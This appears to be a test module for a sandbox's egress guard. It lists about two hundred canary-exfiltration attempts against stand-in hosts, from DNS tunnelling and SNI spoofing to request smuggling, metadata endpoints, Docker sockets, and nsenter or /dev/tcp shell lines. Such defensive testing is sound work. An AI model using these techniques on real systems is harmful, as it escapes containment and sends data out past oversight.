/**
 * Attempts to get something out of a build that may reach only some hosts: name, and a script of Node that is
 * to make the text C arrive outside. They all run at once, in one sandbox.
 */

/** What the scripts have at hand. */
export const HELPERS = `
const net = require('net'), tls = require('tls'), dgram = require('dgram'), http = require('http'), fs = require('fs');
const { execFileSync, spawnSync } = require('child_process');
const E = process.env, GOOD = 'good.example.org', PLAIN = 'plain.example.org', EVIL = 'evil.example.com', OUT = '198.51.100.9';
// For what is allowed it is longer: the machine may be busy.
let patience = 5000;
const rest = (ms) => new Promise((done) => setTimeout(done, ms));
const tcp = (host, port, ...texts) => new Promise((done) => {
  const socket = net.connect({ host, port }, async () => { for (const text of texts) { socket.write(text); await rest(40); } if (patience > 5000) socket.end(); });
  socket.on('error', done).on('close', done).on('data', () => {});
  setTimeout(() => { socket.destroy(); done(); }, patience);
});
const secure = (host, port, servername, text) => new Promise((done) => {
  const socket = tls.connect({ host, port, servername, rejectUnauthorized: false }, () => socket.write(text));
  socket.on('error', done).on('close', done);
  setTimeout(() => { socket.destroy(); done(); }, patience);
});
const udp = (host, port, bytes, kind = 'udp4') => new Promise((done) => {
  const socket = dgram.createSocket(kind).on('error', done);
  socket.send(bytes, port, host, () => {});
  setTimeout(() => { try { socket.close(); } catch {} done(); }, 700);
});
const labels = (name) => Buffer.concat([...name.split('.').map((each) => Buffer.from([each.length, ...Buffer.from(each)])), Buffer.from([0])]);
const query = (name, type = 1, count = 1) => Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, count, 0, 0, 0, 0, 0, 0]), ...Array.from({ length: count }, (_, at) => Buffer.concat([labels(at === 0 && count > 1 ? GOOD : name), Buffer.from([0, type, 0, 1])]))]);
const ask = (name, type) => udp('127.0.0.1', 53, query(name, type));
const request = (path, host, more = '') => 'GET ' + path + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\n' + more + '\\r\\n';
const extension = (names, kind = 0) => { const list = Buffer.concat(names.map((name) => Buffer.concat([Buffer.from([kind, name.length >> 8, name.length & 255]), Buffer.from(name, 'latin1')]))); return Buffer.concat([Buffer.from([0, 0, (list.length + 2) >> 8, (list.length + 2) & 255, list.length >> 8, list.length & 255]), list]); };
const hello = (extensions, more = '') => {
  const all = Buffer.concat([...extensions, Buffer.from([0xfe, 0x0d, more.length >> 8, more.length & 255]), Buffer.from(more)]);
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0, 2, 0x13, 1, 1, 0, all.length >> 8, all.length & 255]), all]);
  const message = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 255]), body]);
  return Buffer.concat([Buffer.from([22, 3, 1, message.length >> 8, message.length & 255]), message]);
};
const sh = async (text) => { spawnSync('/bin/sh', ['-c', text], { timeout: 1500, stdio: 'ignore' }); };
`;

type Row = readonly [name: string, script: string];

/** They are tried by the shell before: Node has its own. */
const DESCRIPTORS = [3, 4, 5, 6, 7, 8, 9];

const DNS_TYPES = {
  A: 1,
  NS: 2,
  CNAME: 5,
  NULL: 10,
  PTR: 12,
  MX: 15,
  TXT: 16,
  AAAA: 28,
  SRV: 33,
  HTTPS: 65,
  ANY: 255,
};
const LITERALS = [
  '0xc6336409',
  '0306.063.0144.011',
  '3325256713',
  '198.51.25609',
  '127.1',
  '0.0.0.0',
  '0',
  '[::ffff:198.51.100.9]',
  '[::ffff:c633:6409]',
];
const METADATA = [
  '169.254.169.254',
  '100.100.100.200',
  '192.0.0.192',
  '10.0.0.1',
  '172.17.0.1',
  '192.168.1.1',
];
const IPV6 = [
  '2001:db8::9',
  '64:ff9b::c633:6409',
  '2002:c633:6409::1',
  '::',
  'fd00:ec2::254',
  'fe80::1',
  '::198.51.100.9',
];

/** Hosts of the list whose addresses are private, each in another way. */
export const PRIVATE_ADDRESSES = [
  ...[
    '10.0.0.1',
    '127.0.0.1',
    '169.254.169.254',
    '192.168.0.1',
    '172.16.0.1',
    '100.64.0.1',
    '0.0.0.0',
  ],
  ...[
    '192.0.0.1',
    '198.18.0.1',
    '224.0.0.1',
    '240.0.0.1',
    '::1',
    '::',
    'fd00::1',
    'fe80::1',
    'ff02::1',
  ],
  ...['::ffff:127.0.0.1', '::ffff:10.0.0.1', '64:ff9b::7f00:1', '2002:7f00:1::1', '2001:0:1::1'],
];

export const ESCAPES: readonly Row[] = [
  ...Object.entries(DNS_TYPES).map(
    ([type, number]): Row => [`DNS ${type}`, `ask(C + '.' + EVIL, ${number})`],
  ),
  ...['8.8.8.8', '1.1.1.1', '9.9.9.9'].map(
    (server): Row => [`DNS at ${server}`, `udp('${server}', 53, query(C + '.' + EVIL))`],
  ),
  ['DNS over TCP', `tcp('127.0.0.1', 53, query(C + '.' + EVIL))`],
  ['DNS over TCP at another server', `tcp('8.8.8.8', 53, query(C + '.' + EVIL))`],
  ['DNS over TLS', `secure('1.1.1.1', 853, 'one.one.one.one', C)`],
  ['DNS over HTTPS by name', `fetch('https://dns.example.com/dns-query?name=' + C)`],
  ['DNS over HTTPS by address', `secure('1.1.1.1', 443, 'one.one.one.one', C)`],
  ['DNS with the longest label', `ask(C.padEnd(63, 'x') + '.' + EVIL)`],
  ['DNS with the longest name', `ask([C, ...Array(3).fill('x'.repeat(60)), EVIL].join('.'))`],
  ['DNS with two questions', `udp('127.0.0.1', 53, query(C + '.' + EVIL, 1, 2))`],
  [
    'DNS with a pointer',
    `udp('127.0.0.1', 53, Buffer.concat([query(C).subarray(0, -5), Buffer.from([0xc0, 12, 0, 1, 0, 1])]))`,
  ],
  [
    'DNS, a label with a dot',
    `udp('127.0.0.1', 53, Buffer.concat([query('x').subarray(0, 12), Buffer.from([GOOD.length + C.length + 1]), Buffer.from(C + '.' + GOOD), Buffer.from([0, 0, 1, 0, 1])]))`,
  ],
  [
    'DNS, an answer',
    `udp('127.0.0.1', 53, Buffer.concat([Buffer.from([0, 1, 0x81, 0x80]), query(C + '.' + EVIL).subarray(4)]))`,
  ],
  [
    'DNS, a dynamic update',
    `udp('127.0.0.1', 53, Buffer.concat([Buffer.from([0, 1, 0x28, 0]), query(C + '.' + EVIL).subarray(4)]))`,
  ],
  ['DNS in mixed case', `ask(C + '.EviL.Example.COM')`],
  ['DNS below a host of the list', `ask(C + '.' + GOOD)`],
  ['DNS, the zone of a wildcard in another', `ask(C + '.wild.example.org.example.com')`],
  ['DNS, a name that ends like a wildcard', `ask(C + 'wild.example.org')`],
  ['DNS, not ASCII', `ask(C + '\\u00e9.example.org')`],
  ['DNS, an underscore', `ask('_' + C + '.example.org')`],
  [
    'DNS by the resolver of the system',
    `new Promise((done) => require('dns').lookup(C + '.' + EVIL, done))`,
  ],
  ['DNS by a library', `require('dns').promises.resolveTxt(C + '.' + EVIL)`],
  ['DNS by getent', 'sh(`getent hosts ${C}.${EVIL}`)'],
  ['multicast DNS', `udp('224.0.0.251', 5353, query(C + '.local'))`],
  ['LLMNR', `udp('224.0.0.252', 5355, query(C))`],
  ['broadcast', `udp('255.255.255.255', 9999, C)`],
  ['QUIC to a host of the list', `udp(OUT, 443, C)`],
  ...[443, 80, 22, 21, 25, 53, 853, 1337, 3128, 4444, 8080].map(
    (port): Row => [`an address at port ${port}`, `tcp(OUT, ${port}, C)`],
  ),
  ...LITERALS.map((host): Row => [`HTTP to ${host}`, `fetch('http://${host}/' + C)`]),
  ...METADATA.map(
    (host): Row => [
      `metadata or private: ${host}`,
      `tcp('${host}', 80, request('/' + C, '${host}'))`,
    ],
  ),
  ...IPV6.flatMap((host): Row[] => [
    [`IPv6 ${host} at 443`, `secure('${host}', 443, GOOD, C)`],
    [`IPv6 ${host} at 80`, `tcp('${host}', 80, request('/' + C, PLAIN))`],
  ]),
  ['IPv6 datagrams', `udp('2001:db8::9', 53, query(C), 'udp6')`],
  ["the server's own loopback", `tcp('127.0.0.1', +E.OUTER_TCP, C)`],
  ["the server's own loopback, IPv6", `tcp('::1', +E.OUTER_TCP6, C)`],
  ["the server's own loopback by another address", `tcp('127.0.0.2', +E.OUTER_TCP, C)`],
  ["the server's own loopback, datagrams", `udp('127.0.0.1', +E.OUTER_UDP, C)`],
  ['localhost at 443', `secure('127.0.0.1', 443, 'localhost', C)`],
  ...PRIVATE_ADDRESSES.map(
    (address, at): Row => [
      `a listed host at ${address}`,
      `secure('private${at}.example.org', 443, 'private${at}.example.org', C)`,
    ],
  ),
  [
    'rebinding: the second lookup is private',
    `secure('rebind.example.org', 443, 'rebind.example.org', '').then(() => secure('rebind.example.org', 443, 'rebind.example.org', C))`,
  ],
  ['SNI of another host', `secure(GOOD, 443, EVIL, C)`],
  ['SNI of a host that begins like it', `secure(GOOD, 443, GOOD + '.' + EVIL, C)`],
  ['SNI of a host that ends like it', `secure(GOOD, 443, 'evil' + GOOD, C)`],
  ['SNI of another host of the list', `secure(GOOD, 443, 'other.example.org', C)`],
  ['no SNI', `tcp(GOOD, 443, hello([], C))`],
  ['an empty SNI', `tcp(GOOD, 443, hello([extension([''])], C))`],
  ['two names in SNI', `tcp(GOOD, 443, hello([extension([GOOD, EVIL])], C))`],
  ['SNI twice', `tcp(GOOD, 443, hello([extension([GOOD]), extension([EVIL])], C))`],
  ['SNI of another type', `tcp(GOOD, 443, hello([extension([GOOD], 1)], C))`],
  ['SNI with a NUL', `tcp(GOOD, 443, hello([extension([GOOD + '\\0.' + EVIL])], C))`],
  ['SNI that is an address', `tcp(GOOD, 443, hello([extension([OUT])], C))`],
  [
    'SNI of another host, byte by byte',
    `tcp(GOOD, 443, ...[...hello([extension([EVIL])], C)].slice(0, 30).map((each) => Buffer.from([each])), hello([extension([EVIL])], C).subarray(30))`,
  ],
  [
    'SNI of another host, in many records',
    `(() => { const m = hello([extension([EVIL])], C).subarray(5); const parts = []; for (let at = 0; at < m.length; at += 9) { const p = m.subarray(at, at + 9); parts.push(Buffer.from([22, 3, 1, 0, p.length]), p); } return tcp(GOOD, 443, Buffer.concat(parts)); })()`,
  ],
  [
    'an empty record first',
    `tcp(GOOD, 443, Buffer.concat([Buffer.from([22, 3, 1, 0, 0]), hello([extension([GOOD])], C)]))`,
  ],
  [
    'an alert first',
    `tcp(GOOD, 443, Buffer.concat([Buffer.from([21, 3, 1, 0, 2, 1, 0]), Buffer.from(C)]))`,
  ],
  [
    'TLS data without a hello',
    `tcp(GOOD, 443, Buffer.concat([Buffer.from([23, 3, 3, 0, C.length]), Buffer.from(C)]))`,
  ],
  [
    'a hello of SSL 2',
    `tcp(GOOD, 443, Buffer.concat([Buffer.from([0x80, 0x40, 1, 3, 1]), Buffer.from(C.padEnd(60))]))`,
  ],
  [
    'a hello that never ends',
    `tcp(GOOD, 443, Buffer.concat([Buffer.from([22, 3, 1, 0x40, 0, 1, 0xff, 0xff, 0xff]), Buffer.from(C.padEnd(16000))]))`,
  ],
  ['HTTP at the port of TLS', `tcp(GOOD, 443, request('/' + C, GOOD))`],
  ['SSH at the port of TLS', `tcp(GOOD, 443, 'SSH-2.0-' + C + '\\r\\n')`],
  [
    'CONNECT at the port of TLS',
    `tcp(GOOD, 443, 'CONNECT ' + EVIL + ':443 HTTP/1.1\\r\\nX: ' + C + '\\r\\n\\r\\n')`,
  ],
  ['plain HTTP to a host of TLS', `tcp(GOOD, 80, request('/' + C, GOOD))`],
  ['ssh to a host of TLS', `tcp(GOOD, 22, 'SSH-2.0-' + C)`],
  ['another port of a host', `tcp(GOOD, 8443, C)`],
  ['the zone of a wildcard itself', `secure('wild.example.org', 443, 'wild.example.org', C)`],
  ['Host of another', `tcp(PLAIN, 80, request('/' + C, EVIL))`],
  ['no Host', `tcp(PLAIN, 80, 'GET /' + C + ' HTTP/1.1\\r\\n\\r\\n')`],
  ['HTTP/1.0 without Host', `tcp(PLAIN, 80, 'GET /' + C + ' HTTP/1.0\\r\\n\\r\\n')`],
  ['HTTP/0.9', `tcp(PLAIN, 80, 'GET /' + C + '\\r\\n')`],
  ['two Hosts', `tcp(PLAIN, 80, request('/' + C, EVIL, 'Host: ' + PLAIN + '\\r\\n'))`],
  ['Host with another after a comma', `tcp(PLAIN, 80, request('/' + C, PLAIN + ', ' + EVIL))`],
  ['Host with user information', `tcp(PLAIN, 80, request('/' + C, PLAIN + '@' + EVIL))`],
  ['Host with another port', `tcp(PLAIN, 80, request('/' + C, PLAIN + ':8080'))`],
  [
    'Host in a folded line',
    `tcp(PLAIN, 80, 'GET /' + C + ' HTTP/1.1\\r\\nHost:\\r\\n ' + EVIL + '\\r\\n\\r\\n')`,
  ],
  ['an absolute address of another', `tcp(PLAIN, 80, request('http://' + EVIL + '/' + C, PLAIN))`],
  ['an address without a slash', `tcp(PLAIN, 80, request('@' + EVIL + '/' + C, PLAIN))`],
  [
    'CONNECT at the port of HTTP',
    `tcp(PLAIN, 80, 'CONNECT ' + EVIL + ':443 HTTP/1.1\\r\\nHost: ' + PLAIN + '\\r\\n\\r\\n', C)`,
  ],
  [
    'a second request for another host',
    `tcp(PLAIN, 80, request('/', PLAIN), request('/' + C, EVIL))`,
  ],
  [
    'a second request in the same packet',
    `tcp(PLAIN, 80, request('/', PLAIN) + request('/' + C, EVIL))`,
  ],
  [
    'a request in a body: both lengths',
    `tcp(PLAIN, 80, 'POST / HTTP/1.1\\r\\nHost: ' + PLAIN + '\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + request('/' + C, EVIL))`,
  ],
  [
    'a request in a body: two lengths',
    `tcp(PLAIN, 80, 'POST / HTTP/1.1\\r\\nHost: ' + PLAIN + '\\r\\nContent-Length: 0\\r\\nContent-Length: 99\\r\\n\\r\\n' + request('/' + C, EVIL))`,
  ],
  [
    'a request in a body: a coding with a space',
    `tcp(PLAIN, 80, 'POST / HTTP/1.1\\r\\nHost: ' + PLAIN + '\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + request('/' + C, EVIL))`,
  ],
  [
    'a request in a body: an unknown coding',
    `tcp(PLAIN, 80, 'POST / HTTP/1.1\\r\\nHost: ' + PLAIN + '\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n' + request('/' + C, EVIL))`,
  ],
  [
    'a header with a bare line feed',
    `tcp(PLAIN, 80, 'GET / HTTP/1.1\\nHost: ' + PLAIN + '\\nX: 1\\n\\n' + request('/' + C, EVIL))`,
  ],
  [
    'an upgrade, then anything',
    `tcp(PLAIN, 80, request('/', PLAIN, 'Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n'), C)`,
  ],
  ['HTTP/2 without TLS', `tcp(PLAIN, 80, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + C)`],
  [
    'a header that is too long',
    `tcp(PLAIN, 80, request('/' + C, PLAIN, 'X: ' + 'x'.repeat(70000) + '\\r\\n'))`,
  ],
  ['a redirect to an address', `fetch('http://' + PLAIN + '/redirect').then((a) => a.text())`],
  ['TLS at the port of HTTP', `secure(PLAIN, 80, PLAIN, C)`],
  [
    'a proxy at the usual port',
    `tcp('127.0.0.1', 3128, 'CONNECT ' + EVIL + ':443 HTTP/1.1\\r\\n\\r\\n', C)`,
  ],
  [
    'a proxy at the address of a host',
    `new Promise((done) => require('dns').lookup(GOOD, (_, a) => tcp(a, 3128, C).then(done)))`,
  ],
  ['an address of the guard that has no name', `secure('127.64.200.200', 443, GOOD, C)`],
  ['SOCKS', `tcp('127.0.0.1', 1080, Buffer.from([5, 1, 0]), C)`],
  ['an abstract socket', `tcp2({ path: '\\0' + E.OUTER_ABSTRACT }, C)`],
  ['a socket in /tmp by its path', `tcp2({ path: E.OUTER_PATH }, C)`],
  ['the socket of docker', `tcp2({ path: '/run/docker.sock' }, C)`],
  ['the bus of the system', `tcp2({ path: '/run/dbus/system_bus_socket' }, C)`],
  [
    "the system's resolver by its socket",
    `tcp2({ path: '/run/systemd/resolve/io.systemd.Resolve' }, '{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"' + C + '"}}\\0')`,
  ],
  ['nscd', `tcp2({ path: '/run/nscd/socket' }, C)`],
  ...DESCRIPTORS.map((fd): Row => [`descriptor ${fd}`, 'rest(0)']),
  [
    'the descriptors of the first process',
    'sh(`for each in /proc/1/fd/*; do case $(readlink $each) in *socket*|*pipe*|*event*) echo ${C} > $each & esac; done`)',
  ],
  [
    'a new network namespace',
    'sh(`unshare -rn sh -c "ip link set lo up; echo ${C} > /dev/tcp/198.51.100.9/80"`)',
  ],
  [
    'the network namespace of the server',
    'sh(`nsenter -t 1 -n sh -c "curl http://198.51.100.9/${C}"`)',
  ],
  [
    'another route',
    'sh(`ip route del local default dev lo; ip link add x type veth; curl http://198.51.100.9/${C}`)',
  ],
  [
    'an interface',
    'sh(`ip link add dummy0 type dummy && ip addr add 198.51.100.1/24 dev dummy0; curl http://198.51.100.9/${C}`)',
  ],
  ['a tunnel device', 'sh(`ip tuntap add mode tun dev tun0; curl http://198.51.100.9/${C}`)'],
  [
    'ICMP',
    'sh(`ping -c1 -W1 -p $(printf ${C} | od -An -tx1 | tr -d " \\n" | head -c 32) 198.51.100.9`)',
  ],
  [
    'another resolv.conf',
    'sh(`echo nameserver 8.8.8.8 > /etc/resolv.conf; getent hosts ${C}.evil.example.com`)',
  ],
  [
    'another hosts file',
    'sh(`echo 198.51.100.9 ${C}.example.com >> /etc/hosts; curl http://${C}.example.com/`)',
  ],
  [
    'a socket of a virtual machine',
    `sh("python3 -c 'import socket,sys; s=socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 9999)); s.send(sys.argv[1].encode())' " + C)`,
  ],
  [
    'raw packets',
    `sh("python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 17); s.sendto(sys.argv[1].encode(), (\\"198.51.100.9\\", 0))' " + C)`,
  ],
];

/** The text of a row. */
export const canaryOf = (at: number) => `canary${String(at).padStart(3, '0')}x`;

/** Shell commands that try the descriptors. */
export const PRELUDE = DESCRIPTORS.map((fd) => {
  const at = ESCAPES.findIndex(([name]) => name === `descriptor ${fd}`);
  return `{ echo '{"port":443,"space":"${canaryOf(at)}"}' >&${fd}; } 2>/dev/null; `;
}).join('');

/** The script that tries them all. */
export const SCRIPT = `${HELPERS}
const tcp2 = (to, text) => new Promise((done) => { const socket = net.connect(to, () => socket.write(text)); socket.on('error', done); setTimeout(() => { socket.destroy(); done(); }, 700); });
const rows = [${ESCAPES.map(([, script]) => `(C) => ${script}`).join(',\n')}];
const all = Promise.all(rows.map(async (row, at) => { try { await Promise.race([row('canary' + String(at).padStart(3, '0') + 'x'), rest(15000)]); } catch {} }));
// What is allowed arrives.
all.then(() => (patience = 20000)).then(() => Promise.all([
  secure(GOOD, 443, GOOD, 'allowed tls'),
  tcp(PLAIN, 80, request('/allowed-http', PLAIN)),
  secure('A.Wild.Example.org', 443, 'a.wild.example.org', 'allowed wildcard'),
  tcp('git.example.org', 22, 'allowed raw'),
])).then(() => process.exit(0));
`;

const PROXY = [
  ...[
    'evil.example.com:443',
    '198.51.100.9:443',
    '[2001:db8::9]:443',
    '0xc6336409:443',
    '127.0.0.1:443',
  ],
  ...[
    'localhost:443',
    'good.example.org:22',
    'good.example.org:80',
    'good.example.org:0',
    'good.example.org:99999',
  ],
  ...[
    'evil@good.example.org:443',
    'good.example.org@evil.example.com:443',
    'good.example.org#.evil.example.com:443',
  ],
  ...[
    'good.example.org%00.evil.example.com:443',
    '.good.example.org:443',
    'good.example.org.evil.example.com:443',
  ],
  ...[
    'wild.example.org:443',
    'evilwild.example.org:443',
    'private0.example.org:443',
    'good_x.example.org:443',
  ],
];
const CONNECT = (to: string, then: string) =>
  `tcp('127.0.0.1', 3128, 'CONNECT ${to} HTTP/1.1\\r\\nHost: ${to}\\r\\nX: ' + C + '\\r\\n\\r\\n', ${then})`;

/** Through the proxy, where the ports of hosts could not be opened. */
export const PROXY_ESCAPES: readonly Row[] = [
  ...PROXY.map((to): Row => [`a tunnel to ${to}`, CONNECT(to, 'C')]),
  [
    'a tunnel, and SNI of another host',
    CONNECT('good.example.org:443', 'hello([extension([EVIL])], C)'),
  ],
  ['a tunnel, and no TLS', CONNECT('good.example.org:443', 'C')],
  ['a tunnel, and HTTP', CONNECT('good.example.org:443', "request('/' + C, EVIL)")],
  [
    'an address of another host',
    `tcp('127.0.0.1', 3128, request('http://evil.example.com/' + C, EVIL))`,
  ],
  [
    'an address, and Host of another',
    `tcp('127.0.0.1', 3128, request('http://plain.example.org/' + C, EVIL))`,
  ],
  [
    'an address with user information',
    `tcp('127.0.0.1', 3128, request('http://plain.example.org@evil.example.com/' + C, EVIL))`,
  ],
  ['an address of TLS', `tcp('127.0.0.1', 3128, request('https://good.example.org/' + C, GOOD))`],
  ['a path alone', `tcp('127.0.0.1', 3128, request('/' + C, GOOD))`],
  [
    'the metadata of a cloud',
    `tcp('127.0.0.1', 3128, request('http://169.254.169.254/' + C, '169.254.169.254'))`,
  ],
  [
    'a second request for another host',
    `tcp('127.0.0.1', 3128, request('http://plain.example.org/', PLAIN), request('http://evil.example.com/' + C, EVIL))`,
  ],
  ['DNS', `ask(C + '.' + EVIL)`],
  ['an address without the proxy', `tcp(OUT, 443, C)`],
];

/** The script that tries them, and what is allowed. */
export const PROXY_SCRIPT = `${HELPERS}
const rows = [${PROXY_ESCAPES.map(([, script]) => `(C) => ${script}`).join(',\n')}];
Promise.all(rows.map(async (row, at) => { try { await Promise.race([row('canary' + String(at).padStart(3, '0') + 'x'), rest(15000)]); } catch {} })).then(async () => {
  patience = 20000;
  await tcp('127.0.0.1', 3128, 'CONNECT good.example.org:443 HTTP/1.1\\r\\n\\r\\n', hello([extension([GOOD])], 'allowed tls'));
  await tcp('127.0.0.1', 3128, request('http://plain.example.org/allowed-http', PLAIN));
  console.log(E.https_proxy);
  process.exit(0);
});
`;
